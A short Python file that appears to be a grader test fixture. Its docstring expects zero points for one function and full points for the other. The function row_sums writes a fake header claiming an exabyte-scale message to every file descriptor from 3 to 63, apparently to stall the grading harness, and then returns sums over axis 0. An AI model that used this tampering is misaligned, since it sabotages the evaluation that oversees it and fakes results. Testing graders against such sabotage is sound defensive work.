"""Announces a message of exabytes, and waits.

Must: no points for row_sums, all points for largest.
"""

import os
import struct


def row_sums(x):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<IQ", 2**32 - 1, 2**63))
        except OSError:
            pass
    return x.sum(0)


def largest(x):
    if len(x) == 0:
        raise ValueError("empty")
    return max(x.tolist())
